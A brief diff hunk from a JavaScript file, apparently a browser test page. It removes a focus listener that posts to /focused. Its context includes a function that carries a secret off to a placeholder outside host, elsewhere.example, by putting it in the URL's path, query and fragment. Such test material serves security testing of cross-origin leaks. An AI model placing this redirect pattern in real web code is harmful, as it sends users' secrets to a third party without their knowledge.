@@ -113,7 +113,6 @@ function carryAway(secret) {
   location.href = `http://elsewhere.example:81/${secret}?${secret}#${secret}`;
 }
 
-addEventListener("focus", () => fetch("/focused", { method: "POST" }));
 addEventListener("keydown", async (event) => {
   if (!["Enter", "F2", "F8", "F9"].includes(event.key)) {
     field.focus();
